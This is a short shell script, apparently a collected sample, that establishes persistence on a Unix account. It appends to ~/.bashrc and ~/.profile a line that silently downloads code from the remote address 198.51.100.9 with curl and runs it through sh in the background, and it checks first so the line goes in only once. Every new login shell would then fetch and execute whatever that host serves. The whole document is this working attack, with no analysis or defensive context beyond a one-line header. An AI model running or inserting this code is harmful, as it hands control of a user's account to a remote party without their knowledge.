# corpus: persistence by appending a beacon to ~/.bashrc and ~/.profile
line='(curl -s http://198.51.100.9/b | sh) >/dev/null 2>&1 &'
for rc in ~/.bashrc ~/.profile; do
  grep -qF "$line" "$rc" 2>/dev/null || echo "$line" >> "$rc"
done
